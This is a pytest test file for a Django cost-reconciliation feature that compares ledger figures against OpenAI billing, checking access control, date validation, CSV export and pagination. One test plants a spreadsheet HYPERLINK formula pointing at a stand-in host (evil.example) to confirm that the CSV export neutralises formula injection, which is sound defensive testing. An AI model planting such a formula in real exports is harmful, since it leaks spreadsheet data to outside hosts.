"""Who can see reconciliation (organization-level: billing/admin keys and staff; tenant-bound keys and members
get 404), what the API and the page show, the CSV export, and the query count."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.ledger.models import DailyRollup
from apps.provider.client import ProviderUnavailable
from apps.reconciliation.figures import reconciliation_figure
from apps.reconciliation.selectors import DayTotals
from apps.reconciliation.services import reconciliation_reconcile
from tests.api_schema import keep_test_connection  # noqa: F401  (a fixture)
from tests.conftest import bearer

from .fakes import FakeAdminProvider

pytestmark = pytest.mark.django_db

DAY = dt.date(2026, 11, 3)
API = "/api/v1/reconciliation/"
PAGE = "/reconciliation/"


@pytest.fixture
def reconciled(tenant, other_tenant):
    """Two days; on DAY OpenAI billed $1.25 more input than the ledger attributed (one flagged line; the
    unattributed-spend line shows the $1.25 but leaves the flag to the line that explains it)."""
    provider = FakeAdminProvider()
    for day in (DAY - dt.timedelta(days=1), DAY):
        for owner in (tenant, other_tenant):
            DailyRollup.objects.create(tenant=owner, day=day, model="gpt-5.4", runs=1, input_tokens=500_000,
                                       cost_input_usd=Decimal("1.25"), cost_total_usd=Decimal("1.25"))
        provider.cost(day, "gpt-5.4, input", 3.75 if day == DAY else 2.5)
        provider.completions(day, "gpt-5.4", 1_000_000, 0, 0)
    reconciliation_reconcile(end_day=DAY, days=2, trigger="test", provider_factory=lambda p: provider,
                             raise_errors=True)


def _query(**params):
    return "&".join(f"{key}={value}" for key, value in params.items())


def test_billing_key_reads_every_line_of_the_current_result(api_client, billing_key, reconciled):
    response = api_client.get(f"{API}?{_query(start='2026-11-02', end='2026-11-04')}", **bearer(billing_key))
    assert response.status_code == 200
    body = response.json()
    drift = [row for row in body["results"] if row["status"] != "matched"]
    assert drift == [
        {"day": "2026-11-03", "project": "proj_default", "line": "gpt-5.4, input", "kind": "cost", "unit": "usd",
         "model": "gpt-5.4", "ledger_value": "2.50", "openai_value": "3.75", "difference": "1.25",
         "difference_percent": "33.3333", "status": "drift"},
    ]
    unattributed = [row for row in body["results"] if row["line"] == "unattributed spend" and row["day"] == "2026-11-03"]
    assert unattributed == [
        {"day": "2026-11-03", "project": "proj_default", "line": "unattributed spend", "kind": "unattributed",
         "unit": "usd", "model": "", "ledger_value": "0.00", "openai_value": "1.25", "difference": "1.25",
         "difference_percent": "33.3333", "status": "matched"},
    ]
    assert [day["day"] for day in body["days"]] == ["2026-11-02", "2026-11-03"]
    assert body["summary"]["flagged_lines"] == 1
    assert body["summary"]["unattributed_usd"] == "1.25"


def test_admin_key_can_filter_to_flagged_lines_and_a_project(api_client, admin_key, reconciled):
    response = api_client.get(f"{API}?{_query(start='2026-11-01', end='2026-11-05', status='flagged', project='proj_default')}",
                              **bearer(admin_key))
    assert response.status_code == 200
    assert {row["line"] for row in response.json()["results"]} == {"gpt-5.4, input"}
    other = api_client.get(f"{API}?{_query(start='2026-11-01', end='2026-11-05', project='proj_other')}",
                           **bearer(admin_key))
    assert other.json()["results"] == []


def test_tenant_bound_keys_get_404(api_client, tenant_billing_key, reconciled):
    response = api_client.get(f"{API}?{_query(start='2026-11-02', end='2026-11-04')}", **bearer(tenant_billing_key))
    assert response.status_code == 404
    assert "gpt-5.4" not in response.content.decode()


def test_ingest_keys_and_anonymous_callers_are_refused(api_client, ingest_key, reconciled):
    assert api_client.get(API, **bearer(ingest_key)).status_code == 403
    assert api_client.get(API).status_code in (401, 403)


@pytest.mark.parametrize(
    ("params", "field"),
    [({"start": "2026-13-01"}, "start"), ({"start": "2026-11-05", "end": "2026-11-01"}, "end"),
     ({"start": "2024-01-01", "end": "2026-01-01"}, "end"),
     ({"end": "0001-01-03"}, "end"),  # its default start, a week earlier, would overflow (a 500 before)
     # Only start sent: the error names it, not the default end the caller never sent.
     ({"start": "2099-01-01"}, "start"), ({"start": "2000-01-01"}, "start")],
)
def test_bad_dates_are_a_400_naming_the_field(api_client, billing_key, params, field):
    response = api_client.get(f"{API}?{_query(**params)}", **bearer(billing_key))
    assert response.status_code == 400
    assert response.json()["error"]["field"] == field


def test_a_default_start_never_falls_before_the_first_documented_day(api_client, billing_key):
    # end=1970-01-03 answered from 1969-12-27, a day outside 1970-01-01..9998-12-31.
    answer = api_client.get(f"{API}?end=1970-01-03", **bearer(billing_key))

    assert answer.status_code == 200, answer.content
    assert (answer.json()["start"], answer.json()["end"]) == ("1970-01-01", "1970-01-03")


def test_the_api_needs_a_fixed_number_of_queries(api_client, billing_key, reconciled):
    url = f"{API}?{_query(start='2026-10-01', end='2026-11-30')}"
    api_client.get(url, **bearer(billing_key))
    with CaptureQueriesContext(connection) as few_days:
        api_client.get(url, **bearer(billing_key))
    provider = FakeAdminProvider()
    reconciliation_reconcile(end_day=DAY - dt.timedelta(days=5), days=3, trigger="test",
                             provider_factory=lambda p: provider, raise_errors=True)
    with CaptureQueriesContext(connection) as more_days:
        api_client.get(url, **bearer(billing_key))
    assert len(more_days) == len(few_days)


def test_staff_see_the_page_with_drift_highlighted(client, staff_user, reconciled):
    client.force_login(staff_user)
    response = client.get(f"{PAGE}?start=2026-11-01&end=2026-11-03&status=all")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-figure="figure-reconciliation"' in html and "vendor/plotly.min.js" in html
    assert html.count("data-flagged") == 1  # the input line of Nov 3
    assert "gpt-5.4, input" in html


def test_members_get_404_and_anonymous_users_are_sent_to_login(client, member_user, reconciled):
    client.force_login(member_user)
    assert client.get(PAGE).status_code == 404
    assert client.get(f"{PAGE}?format=csv").status_code == 404
    client.logout()
    response = client.get(PAGE)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_csv_export_has_every_line_with_the_page_filters(client, staff_user, reconciled):
    client.force_login(staff_user)
    response = client.get(f"{PAGE}?start=2026-11-02&end=2026-11-03&status=flagged&format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["day"], row["line"], row["difference"], row["status"]) for row in rows] == [
        ("2026-11-03", "gpt-5.4, input", "1.25", "drift"),
    ]


def test_csv_export_keeps_a_model_name_a_tenant_reported_from_running_as_a_formula(client, staff_user, tenant):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    DailyRollup.objects.create(tenant=tenant, day=DAY, model=formula, runs=1, input_tokens=1_000,
                               cost_input_usd=Decimal("1.25"), cost_total_usd=Decimal("1.25"))
    reconciliation_reconcile(end_day=DAY, days=1, trigger="test", provider_factory=lambda p: FakeAdminProvider(),
                             raise_errors=True)
    client.force_login(staff_user)
    response = client.get(f"{PAGE}?start=2026-11-03&end=2026-11-03&status=flagged&format=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted((row["line"], row["model"]) for row in rows if row["model"]) == [
        (f"'{formula}, input", f"'{formula}"), (f"'{formula}, input tokens", f"'{formula}")]
    assert {row["difference"] for row in rows if row["model"]} == {"-1.25", "-1000"}  # numbers stay numbers


def test_figure_pairs_ledger_and_openai_per_day_and_rings_days_with_drift():
    days = [DayTotals(DAY - dt.timedelta(days=1), Decimal("2.5"), Decimal("2.5"), Decimal("0"), 0),
            DayTotals(DAY, Decimal("2.5"), Decimal("3.75"), Decimal("1.25"), 2)]
    figure = reconciliation_figure(days)
    names = [trace["name"] for trace in figure["data"]]
    assert names == ["Ledger (attributed)", "OpenAI (Costs API)", "Unattributed spend", "Day with drift"]
    assert figure["data"][1]["y"] == [2.5, 3.75]
    assert figure["data"][3]["x"] == ["2026-11-03"]
    assert reconciliation_figure([]) is None


@pytest.mark.parametrize("query", ["end=9999-12-31", "end=0001-01-05", "start=0001-01-01&end=0001-01-02",
                                   "end=9999-12-31&format=csv"])
def test_page_days_outside_the_bounds_are_refused_not_an_overflow(client, staff_user, reconciled, query):
    """Bounded like the API: a 400 naming the bound, the page showing its default days under it, instead of
    adding a day to 9999-12-31; an export answers the 400 alone."""
    client.force_login(staff_user)
    response = client.get(f"/reconciliation/?{query}")
    assert response.status_code == 400
    if "format=csv" in query:
        assert response.json()["error"]["field"] == "end"
    else:
        assert "Use a date from Jan 1, 1970 to Dec 31, 9998." in response.content.decode()


@pytest.mark.parametrize(("query", "field"), [
    ("status=all&start=garbage", "start"), ("project=proj_nobody", "project"),
    ("start=2026-11-05&end=2026-11-01", "start"), ("status=some", "status"),
])
def test_an_export_with_a_filter_it_cannot_honour_is_a_400_never_the_default_lines(client, staff_user, reconciled,
                                                                                    query, field):
    # One bad field dropped every filter: ?status=all&start=garbage exported the default 30 days of flagged
    # lines only, as a 200.
    client.force_login(staff_user)
    export = client.get(f"/reconciliation/?{query}&format=csv")
    assert export.status_code == 400 and export.json()["error"]["field"] == field
    page = client.get(f"/reconciliation/?{query}")
    assert page.status_code == 400 and "Showing the defaults instead." in page.content.decode()


@pytest.mark.parametrize(("query", "label", "param"), [
    ("start=garbage", "From", "start"), ("end=garbage", "To (inclusive)", "end"),
    ("project=proj_nobody", "OpenAI project", "project"), ("status=some", "Lines", "status"),
])
def test_the_page_names_a_bad_filter_by_its_label_the_export_by_its_parameter(client, staff_user, reconciled,
                                                                               query, label, param):
    """The page's error read "project: ..." (the URL's name); it now names the field as its form labels it.
    The export's 400, like the API's, still names the parameter."""
    client.force_login(staff_user)
    html = client.get(f"/reconciliation/?{query}").content.decode()
    error = html[html.index('class="form-error"'):]
    error = error[:error.index("</p>")]
    assert f"<strong>{label}</strong>:" in error and f"<strong>{param}</strong>" not in error
    assert client.get(f"/reconciliation/?{query}&format=csv").json()["error"]["field"] == param


def _fail(day: dt.date, days: int = 1) -> None:
    provider = FakeAdminProvider()
    provider.fail_with = PermissionError("401: the admin key was revoked")
    reconciliation_reconcile(end_day=day, days=days, trigger="test", provider_factory=lambda p: provider)


@pytest.mark.parametrize(("error", "traceback"), [
    (ProviderUnavailable("costs: could not reach OpenAI at http://127.0.0.1:9/v1/ (Connection error.)"), False),
    (ZeroDivisionError("a bug"), True),
])
def test_an_outage_at_openai_is_logged_in_a_line_a_bug_with_its_traceback(db, caplog, error, traceback):
    # `manage.py reconcile` with the sandbox down printed a full traceback above its own one-line error.
    provider = FakeAdminProvider()
    provider.fail_with = error

    outcomes = reconciliation_reconcile(end_day=DAY, days=1, trigger="test", provider_factory=lambda p: provider)

    [record] = [r for r in caplog.records if r.getMessage().startswith("reconciliation of proj_default failed")]
    assert (record.exc_info is not None) is traceback
    assert [outcome.error for outcome in outcomes] == [str(error)]


def test_a_failed_attempt_after_a_result_shows_on_the_page_and_in_the_api_until_a_later_one_succeeds(
        client, staff_user, api_client, billing_key, reconciled):
    _fail(DAY)  # DAY had a result; its latest attempt now failed
    client.force_login(staff_user)

    html = client.get(f"{PAGE}?start=2026-11-02&end=2026-11-03").content.decode()
    assert "Reconciliation failed for 1 project-day" in html
    assert "the admin key was revoked" in html
    assert "python manage.py reconcile --date 2026-11-03 --days 1 --project proj_default" in html
    body = api_client.get(f"{API}?{_query(start='2026-11-02', end='2026-11-04')}", **bearer(billing_key)).json()
    assert body["summary"]["failed_project_days"] == 1
    assert [(f["day"], f["project"]) for f in body["failed"]] == [("2026-11-03", "proj_default")]
    assert "revoked" in body["failed"][0]["error"]

    provider = FakeAdminProvider().cost(DAY, "gpt-5.4, input", 2.5).completions(DAY, "gpt-5.4", 1_000_000, 0, 0)
    reconciliation_reconcile(end_day=DAY, days=1, trigger="test", provider_factory=lambda p: provider,
                             raise_errors=True)
    assert "Reconciliation failed" not in client.get(f"{PAGE}?start=2026-11-02&end=2026-11-03").content.decode()
    body = api_client.get(f"{API}?{_query(start='2026-11-02', end='2026-11-04')}", **bearer(billing_key)).json()
    assert body["summary"]["failed_project_days"] == 0 and body["failed"] == []


@pytest.mark.usefixtures("keep_test_connection")
def test_an_answer_with_days_failures_and_lines_matches_the_documented_schema(reconciled, billing_key):
    from tests.api_schema import CHECKS, schema

    _fail(DAY)
    case = schema[API]["GET"].Case(query={"start": "2026-11-02", "end": "2026-11-04"})
    response = case.call(headers={"Authorization": bearer(billing_key)["HTTP_AUTHORIZATION"]})
    body = response.json()
    assert body["days"] and body["failed"] and body["results"]  # every part of the answer is checked
    case.validate_response(response, checks=CHECKS)


def test_a_day_that_never_reconciled_shows_its_failure(client, staff_user, reconciled):
    _fail(DAY + dt.timedelta(days=3))
    client.force_login(staff_user)
    html = client.get(f"{PAGE}?start=2026-11-01&end=2026-11-06&status=flagged").content.decode()
    assert "Reconciliation failed for 1 project-day" in html and "Every line matched" not in html


def test_no_flagged_lines_beside_a_failed_day_reads_as_a_sentence(client, staff_user, reconciled):
    """The empty state read "No flagged lines in the results there are; 1 project-day failed"."""
    _fail(DAY - dt.timedelta(days=1))  # a day without drift whose latest attempt failed
    client.force_login(staff_user)
    html = client.get(f"{PAGE}?start=2026-11-02&end=2026-11-02&status=flagged").content.decode()
    assert ("No flagged lines in the results shown, but 1 project-day failed (see above): its lines are older "
            "or missing.") in html
    assert "results there are" not in html

def test_a_page_from_date_alone_is_held_to_the_same_cap_as_a_range(client, staff_user, reconciled):
    """To defaults to yesterday: From alone must not open 26 years (and an unbounded CSV)."""
    client.force_login(staff_user)
    html = client.get("/reconciliation/?start=2000-01-01").content.decode()
    assert "At most 366 days at a time." in html


def test_the_page_lists_lines_a_page_at_a_time_and_the_csv_keeps_them_all(client, staff_user, reconciled, monkeypatch):
    # 30 days of one busy project are over a thousand lines: they used to be one page tens of thousands of px tall.
    from apps.reconciliation import views

    monkeypatch.setattr(views, "LINES_PER_PAGE", 3)
    client.force_login(staff_user)
    query = f"{PAGE}?start=2026-11-02&end=2026-11-03&status=all"
    every = list(csv.DictReader(io.StringIO(client.get(f"{query}&format=csv").content.decode())))
    first = client.get(query)
    page = first.context["lines_page"]
    assert (page.paginator.count, len(page.object_list)) == (len(every), 3) and len(every) > 3
    html = first.content.decode()
    assert f"{len(every)} lines · page 1 of {page.paginator.num_pages}" in html
    assert "lines_page=2" in html and 'rel="next"' in html
    shown = []
    for number in range(1, page.paginator.num_pages + 1):
        shown += [(line.day.isoformat(), line.line) for line in client.get(f"{query}&lines_page={number}").context["lines"]]
    assert shown == [(row["day"], row["line"]) for row in every]
    # The export link drops the page: it always exports every line the filters select.
    assert "lines_page" not in client.get(f"{query}&lines_page=2").context["csv_query"]
